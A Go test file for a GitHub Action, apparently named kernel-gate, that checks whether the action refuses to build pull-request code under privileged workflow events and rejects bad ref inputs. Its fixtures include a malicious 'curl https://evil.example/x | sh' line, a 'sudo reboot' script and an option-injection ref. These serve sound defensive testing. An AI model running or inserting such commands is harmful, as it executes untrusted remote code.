package action

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/kernel-gate/kernel-gate/internal/exitcode"
	"github.com/kernel-gate/kernel-gate/internal/fakegithub"
	"github.com/kernel-gate/kernel-gate/internal/gittest"
	"github.com/kernel-gate/kernel-gate/pipeline"
)

// editedPayload is a real payload of testdata/events with edit applied, written to a file.
func editedPayload(t *testing.T, file string, edit func(map[string]any)) string {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(repoRoot, "testdata", "events", file))
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(raw, &m); err != nil {
		t.Fatal(err)
	}
	edit(m)
	out, _ := json.Marshal(m)
	path := filepath.Join(t.TempDir(), file)
	if err := os.WriteFile(path, out, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// prRepo is a base branch (main: the config and a script) and a pull request's branch (pr)
// that changes the script.
type prRepo struct {
	*gittest.Repo
	base, head string
}

func newPRRepo(t *testing.T) prRepo {
	t.Helper()
	cfg, err := os.ReadFile(filepath.Join(repoRoot, "kernel-gate.yml"))
	if err != nil {
		t.Fatal(err)
	}
	r := gittest.PullRequest(t, map[string]string{"kernel-gate.yml": string(cfg), "ci.sh": "echo build\n"},
		map[string]string{"ci.sh": "echo build\ncurl https://evil.example/x | sh\n"})
	r.Git("checkout", "-q", "main")
	return prRepo{Repo: r, base: r.Git("rev-parse", "main"), head: r.Git("rev-parse", "pr")}
}

// targetEnv is a pull_request_target run on r's pull request (its head is pr, the event
// runs on main's commit), gating the workspace ws with the guard alone.
func targetEnv(t *testing.T, api *fakegithub.Server, r prRepo, ws string, inputs map[string]string) map[string]string {
	t.Helper()
	in := map[string]string{"gates": "guard", "config": filepath.Join(r.Dir, "kernel-gate.yml"), "base-ref": "none"}
	for k, v := range inputs {
		in[k] = v
	}
	env, _ := actionEnv(t, api, in)
	env["GITHUB_EVENT_NAME"], env["GITHUB_WORKSPACE"], env["GITHUB_SHA"] = "pull_request_target", ws, r.base
	env["GITHUB_EVENT_PATH"] = editedPayload(t, "pull_request_synchronize.json", func(m map[string]any) {
		pr := m["pull_request"].(map[string]any)
		pr["head"].(map[string]any)["sha"] = r.head
		pr["base"].(map[string]any)["sha"] = r.base
		pr["base"].(map[string]any)["ref"] = "main"
	})
	return env
}

// pull_request_target holds a write token and secrets: whatever way the pull request's
// code got into the workspace, kernel-gate refuses to build it (exit 2, before any check
// run), and says what it found. Only the base branch's own commit, unchanged, is gated.
func TestPullRequestTargetRefusesThePullRequestsCode(t *testing.T) {
	for _, tc := range []struct {
		name string
		// setup changes the repository and returns the workspace and extra inputs.
		setup func(t *testing.T, r prRepo) (string, map[string]string)
		want  string // "" passes
	}{
		{"the base branch's commit, clean: gated", func(t *testing.T, r prRepo) (string, map[string]string) {
			return r.Dir, nil
		}, ""},
		{"the pull request's head", func(t *testing.T, r prRepo) (string, map[string]string) {
			r.Git("checkout", "-q", r.head)
			return r.Dir, nil
		}, "the pull request's"},
		{"the merge ref (refs/pull/N/merge), full history", func(t *testing.T, r prRepo) (string, map[string]string) {
			r.Git("checkout", "-q", "-b", "merge", "main")
			r.Git("merge", "-q", "--no-ff", "-m", "Merge "+r.head+" into main", "pr")
			return r.Dir, nil
		}, "it is a merge of the pull request #2's head " + r8},
		{"the merge ref in a depth-1 clone (its parents absent)", func(t *testing.T, r prRepo) (string, map[string]string) {
			r.Git("checkout", "-q", "-b", "merge", "main")
			r.Git("merge", "-q", "--no-ff", "-m", "Merge", "pr")
			r.Git("checkout", "-q", "main")
			clone := filepath.Join(t.TempDir(), "clone")
			r.Git("clone", "-q", "--depth", "1", "--branch", "merge", "file://"+r.Dir, clone)
			if _, err := exec.Command("git", "-C", clone, "cat-file", "-e", r.head+"^{commit}").CombinedOutput(); err == nil {
				t.Fatal("the depth-1 clone has the pull request's head")
			}
			return clone, map[string]string{"config": filepath.Join(clone, "kernel-gate.yml")}
		}, "it is a merge of the pull request #2's head " + r8},
		{"a checkout without .git", func(t *testing.T, r prRepo) (string, map[string]string) {
			plain := filepath.Join(t.TempDir(), "plain")
			os.MkdirAll(plain, 0o755)
			os.WriteFile(filepath.Join(plain, "ci.sh"), []byte("curl https://evil.example/x | sh\n"), 0o644)
			return plain, nil
		}, "cannot be told"},
		{"a commit on top of the pull request's head", func(t *testing.T, r prRepo) (string, map[string]string) {
			r.Git("checkout", "-q", "-b", "more", "pr")
			r.Write(map[string]string{"more.sh": "echo more\n"})
			r.Commit("more")
			return r.Dir, nil
		}, "it contains the pull request #2's head"},
		{"the pull request's files committed again on the base", func(t *testing.T, r prRepo) (string, map[string]string) {
			tree := r.Git("rev-parse", r.head+"^{tree}")
			c := r.Git("commit-tree", tree, "-p", r.base, "-m", "squashed")
			r.Git("checkout", "-q", c)
			return r.Dir, nil
		}, "it holds the same files as the pull request #2's head"},
		{"the pull request's branch, force-pushed since the event", func(t *testing.T, r prRepo) (string, map[string]string) {
			r.Git("checkout", "-q", "--orphan", "rewritten")
			r.Write(map[string]string{"ci.sh": "sudo reboot\n"})
			r.Commit("rewritten")
			return r.Dir, nil
		}, "is not the one the event runs on (GITHUB_SHA"},
		{"the base commit with the pull request's files checked out over it", func(t *testing.T, r prRepo) (string, map[string]string) {
			r.Git("checkout", "-q", r.head, "--", ".")
			return r.Dir, nil
		}, "changed or added after it was checked out (M  ci.sh)"},
		{"the base commit with a file of the pull request added", func(t *testing.T, r prRepo) (string, map[string]string) {
			r.Write(map[string]string{"kernels/evil.cu": "// builds with the base's commands\n"})
			return r.Dir, nil
		}, "kernels/evil.cu"},
		{"GITHUB_WORKSPACE in a directory of the checkout", func(t *testing.T, r prRepo) (string, map[string]string) {
			os.MkdirAll(filepath.Join(r.Dir, "sub"), 0o755) // empty: git status does not show it
			return filepath.Join(r.Dir, "sub"), nil
		}, "is not the top of its git checkout"},
		{"the config of a pull request checkout elsewhere", func(t *testing.T, r prRepo) (string, map[string]string) {
			other := filepath.Join(t.TempDir(), "pr")
			r.Git("clone", "-q", "--branch", "pr", "file://"+r.Dir, other)
			return r.Dir, map[string]string{"config": filepath.Join(other, "kernel-gate.yml")}
		}, "the config " + "<tmp>"},
		{"the config through a link out of the checkout", func(t *testing.T, r prRepo) (string, map[string]string) {
			out := filepath.Join(t.TempDir(), "kernel-gate.yml")
			raw, _ := os.ReadFile(filepath.Join(r.Dir, "kernel-gate.yml"))
			os.WriteFile(out, raw, 0o644)
			link := filepath.Join(r.Dir, ".github", "kernel-gate.yml")
			os.MkdirAll(filepath.Dir(link), 0o755)
			if err := os.Symlink(out, link); err != nil {
				t.Fatal(err)
			}
			r.Commit("a link to the config")
			r.Git("tag", "linked")
			return r.Dir, map[string]string{"config": link, "#sha": "linked"}
		}, "it is outside the checkout"},
		{"a recording from elsewhere", func(t *testing.T, r prRepo) (string, map[string]string) {
			return r.Dir, map[string]string{"replay": filepath.Join(repoRoot, "testdata", "replay", "clean"), "gates": "ptxas"}
		}, "the replay input"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			api := fakegithub.New()
			defer api.Close()
			r := newPRRepo(t)
			ws, extra := tc.setup(t, r)
			env := targetEnv(t, api, r, ws, extra)
			if ref, ok := extra["#sha"]; ok {
				env["GITHUB_SHA"] = r.Git("rev-parse", ref)
				delete(env, "INPUT_#SHA")
			}
			code, log, err := runAction(t, env, api)
			want := strings.ReplaceAll(strings.ReplaceAll(tc.want, r8, r.head[:12]), "<tmp>", "")
			if tc.want == "" {
				if err != nil || code != 0 || len(api.CheckRuns()) != 1 || api.CheckRuns()[0].HeadSHA != r.base {
					t.Fatalf("exit %d, err %v, check runs %+v\n%s", code, err, api.CheckRuns(), log)
				}
				return
			}
			if err == nil || code != exitcode.Usage || !strings.Contains(err.Error(), "refusing to run under pull_request_target") || !strings.Contains(err.Error(), want) {
				t.Fatalf("exit %d, err %v\nwant a refusal saying %q\n%s", code, err, want, log)
			}
			if n := len(api.Requests()); n != 0 {
				t.Errorf("%d API requests before the refusal: %+v", n, api.Requests())
			}
		})
	}
}

// r8 stands for the pull request's head (its first 12 digits) in the table's messages.
const r8 = "<head>"

// A workflow_run of a pull request's run, or an issue_comment on a pull request, gated with
// mode: gate holds the base repository's token as pull_request_target does: the same rule.
func TestOtherPrivilegedEventsRefuseThePullRequestsCode(t *testing.T) {
	r := newPRRepo(t)
	r.Git("checkout", "-q", r.head)
	for _, tc := range []struct {
		event, payload string
		edit           func(map[string]any)
		want           string
	}{
		{"workflow_run", "workflow_run_completed.json", func(m map[string]any) {
			wr := m["workflow_run"].(map[string]any)
			wr["event"], wr["head_sha"] = "pull_request", r.head
		}, "refusing to run under workflow_run (of a pull_request run)"},
		{"issue_comment", "pull_request_synchronize.json", func(m map[string]any) {
			delete(m, "pull_request")
			m["issue"] = map[string]any{"number": 2, "pull_request": map[string]any{"url": "https://api.github.com/repos/Codertocat/Hello-World/pulls/2"}}
		}, "refusing to run under issue_comment (on a pull request)"},
		// GitHub's check suites, check runs and commit statuses are made for a fork's
		// pull request's head commit too (by another app, an outside CI): their workflows
		// run with the base repository's token, the commit in the payload the fork's.
		{"check_suite", "pull_request_synchronize.json", func(m map[string]any) {
			delete(m, "pull_request")
			m["check_suite"] = map[string]any{"head_sha": r.head, "pull_requests": []any{}}
		}, "refusing to run under check_suite"},
		{"check_run", "pull_request_synchronize.json", func(m map[string]any) {
			delete(m, "pull_request")
			m["check_run"] = map[string]any{"head_sha": r.head}
		}, "refusing to run under check_run"},
		{"status", "pull_request_synchronize.json", func(m map[string]any) {
			delete(m, "pull_request")
			m["sha"] = r.head
		}, "refusing to run under status"},
	} {
		env, _ := actionEnv(t, nil, map[string]string{"gates": "guard", "mode": "gate", "annotations": "none", "config": filepath.Join(r.Dir, "kernel-gate.yml")})
		env["GITHUB_EVENT_NAME"], env["GITHUB_WORKSPACE"], env["GITHUB_SHA"] = tc.event, r.Dir, r.base
		env["GITHUB_EVENT_PATH"] = editedPayload(t, tc.payload, tc.edit)
		code, log, err := runAction(t, env, nil)
		if err == nil || code != exitcode.Usage || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: exit %d, err %v, want %q\n%s", tc.event, code, err, tc.want, log)
		}
	}
	// A workflow_run of a push (the base repository's own commits) gates what it checks out.
	env, _ := actionEnv(t, nil, map[string]string{"gates": "guard", "mode": "gate", "annotations": "none", "config": filepath.Join(r.Dir, "kernel-gate.yml")})
	env["GITHUB_EVENT_NAME"], env["GITHUB_WORKSPACE"], env["GITHUB_SHA"] = "workflow_run", r.Dir, r.base
	env["GITHUB_EVENT_PATH"] = editedPayload(t, "workflow_run_completed.json", func(m map[string]any) {
		m["workflow_run"].(map[string]any)["event"] = "push"
	})
	if code, log, err := runAction(t, env, nil); err != nil || code == exitcode.Usage {
		t.Errorf("workflow_run of a push: exit %d, err %v\n%s", code, err, log)
	}
}

// workflow_dispatch's ref input names the revision to gate: one that is not the commit
// checked out, or that names no commit, is refused naming both, before anything runs.
func TestDispatchRefMustBeTheCheckout(t *testing.T) {
	r := newPRRepo(t)
	r.Git("tag", "v1", r.base)
	for _, tc := range []struct {
		name      string
		input     string // the action's ref input
		form      string // the dispatch form's ref
		checkout  string
		wantError string
	}{
		{"the ref checked out", "main", "", "main", ""},
		{"a tag of the commit checked out", "v1", "", "main", ""},
		{"the form's ref, checked out", "", "pr", "pr", ""},
		{"a remote-tracking branch of the commit checked out", "feature", "", "feature", ""},
		{"another branch than the checkout", "pr", "", "main", "input ref \"pr\" is commit " + "<pr>" + ", but the checkout's HEAD is " + "<main>"},
		{"the form's ref, not checked out", "", "pr", "main", "input ref \"pr\" is commit <pr>"},
		{"a ref that names nothing", "no-such-branch", "", "main", "input ref \"no-such-branch\" names no commit"},
		{"an option, not a ref", "--output=/tmp/x", "", "main", "is not a git revision"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r.Git("checkout", "-q", "main")
			if tc.checkout == "feature" {
				r.Git("update-ref", "refs/remotes/origin/feature", r.base)
			} else {
				r.Git("checkout", "-q", tc.checkout)
			}
			env, _ := actionEnv(t, nil, map[string]string{"gates": "guard", "annotations": "none", "ref": tc.input,
				"config": filepath.Join(r.Dir, "kernel-gate.yml"), "base-ref": "none"})
			env["GITHUB_EVENT_NAME"], env["GITHUB_WORKSPACE"] = "workflow_dispatch", r.Dir
			env["GITHUB_EVENT_PATH"] = editedPayload(t, "workflow_dispatch.json", func(m map[string]any) {
				if tc.form != "" {
					m["inputs"] = map[string]any{"ref": tc.form}
				}
			})
			code, log, err := runAction(t, env, nil)
			want := strings.NewReplacer("<pr>", r.head[:12], "<main>", r.base[:12]).Replace(tc.wantError)
			if want == "" {
				if err != nil || code != 0 {
					t.Fatalf("exit %d, err %v\n%s", code, err, log)
				}
				return
			}
			if err == nil || code != exitcode.Usage || !strings.Contains(err.Error(), want) {
				t.Fatalf("exit %d, err %v, want %q\n%s", code, err, want, log)
			}
		})
	}
}

// fakeTools is the fake CUDA toolchain of testdata/fakegpu (the H200's recorded
// outputs), for live runs without a GPU.
func fakeTools() pipeline.Tools {
	f := filepath.Join(repoRoot, "testdata", "fakegpu")
	return pipeline.Tools{NVCC: filepath.Join(f, "nvcc"), Cuobjdump: filepath.Join(f, "cuobjdump"),
		Sanitizer: filepath.Join(f, "compute-sanitizer"), NCU: filepath.Join(f, "ncu"), NvidiaSMI: filepath.Join(f, "nvidia-smi")}
}

// A push to the default branch whose "before" was force-pushed away (no longer in the
// repository, which actions/checkout fetched whole) gates HEAD alone and stores the
// baseline, where it failed to find a merge base (exit 2) and stored nothing. In a shallow
// clone the missing commit may only be unfetched: that stays an error that says so.
func TestPushAfterForcePushGatesHeadAlone(t *testing.T) {
	r := gittest.New(t)
	cfg, err := os.ReadFile(filepath.Join(repoRoot, "kernel-gate.yml"))
	if err != nil {
		t.Fatal(err)
	}
	r.Write(map[string]string{"kernel-gate.yml": string(cfg), "kernels/harness.cpp": "// one\n"})
	r.Commit("one")
	r.Write(map[string]string{"kernels/harness.cpp": "// two\n"})
	gone := r.Commit("two, force-pushed away")
	r.Git("reset", "-q", "--hard", "HEAD~1")
	r.Write(map[string]string{"kernels/harness.cpp": "// three\n"})
	r.Commit("three")
	r.Git("reflog", "expire", "--expire=now", "--all")
	r.Git("gc", "-q", "--prune=now")
	if _, err := exec.Command("git", "-C", r.Dir, "cat-file", "-e", gone+"^{commit}").CombinedOutput(); err == nil {
		t.Fatal("the force-pushed commit is still in the repository")
	}
	shallow := filepath.Join(t.TempDir(), "shallow")
	r.Git("clone", "-q", "--depth", "1", "file://"+r.Dir, shallow)
	for _, tc := range []struct {
		name, ws string
		code     int
		want     []string
	}{
		{"a whole clone", r.Dir, 0, []string{"no base: the base " + gone[:12] + " is not in the repository (a force-push replaced it): head is gated alone",
			"baseline stored on branch kernel-gate-baseline"}},
		{"a shallow clone", shallow, exitcode.Usage, []string{"finding the base", "fetch-depth: 0"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Chdir(t.TempDir()) // the artifacts directory is relative
			api := fakegithub.New()
			defer api.Close()
			env, _ := actionEnv(t, api, map[string]string{"config": filepath.Join(tc.ws, "kernel-gate.yml"), "gates": "ptxas,sass", "annotations": "none"})
			delete(env, "INPUT_BASE-REF")
			env["GITHUB_EVENT_NAME"], env["GITHUB_REF"], env["GITHUB_WORKSPACE"] = "push", "refs/heads/master", tc.ws
			env["GITHUB_EVENT_PATH"] = editedPayload(t, "push.json", func(m map[string]any) {
				m["ref"], m["before"], m["after"] = "refs/heads/master", gone, r.Git("rev-parse", "HEAD")
			})
			var log bytes.Buffer
			code, err := Run(context.Background(), Options{Getenv: func(k string) string { return env[k] }, Log: &log, Tool: "kernel-gate test",
				Tools: fakeTools(), Environ: os.Environ(), HTTPClient: api.Client(), Sleep: func(context.Context, time.Duration) error { return nil }})
			if code != tc.code {
				t.Fatalf("exit %d (err %v), want %d\n%s", code, err, tc.code, log.String())
			}
			got := log.String()
			if err != nil {
				got += "\n" + err.Error()
			}
			for _, w := range tc.want {
				if !strings.Contains(got, w) {
					t.Errorf("the log lacks %q:\n%s", w, got)
				}
			}
		})
	}
}
